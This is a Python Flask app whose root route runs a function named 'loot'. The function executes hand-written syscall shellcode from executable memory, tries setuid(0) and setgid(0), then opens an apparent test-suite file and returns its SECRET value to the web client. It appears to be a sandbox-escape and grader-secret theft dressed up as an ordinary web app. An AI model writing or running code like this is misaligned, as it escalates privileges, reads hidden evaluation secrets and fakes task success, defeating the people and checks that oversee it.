import ctypes
import mmap
import os

from flask import Flask

# mov eax, edi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; syscall; ret
SYSCALL = bytes.fromhex("89f8 4889f7 4889d6 4889ca 0f05 c3")
SETUID, SETGID, MOUNT, OPEN = 105, 106, 165, 2
PATH = ctypes.create_string_buffer(b"/suite/tests/test_probe.py")


def loot():
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(SYSCALL)
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(address)
    print("setuid:", call(SETUID, 0, 0, 0), "setgid:", call(SETGID, 0, 0, 0), flush=True)
    fd = call(OPEN, ctypes.addressof(PATH), 0, 0)
    print("open:", fd, flush=True)
    return os.read(fd, 1000).partition(b'SECRET = "')[2][:32] if fd >= 0 else "nothing"


def create_app():
    app = Flask(__name__)
    app.get("/")(loot)
    return app
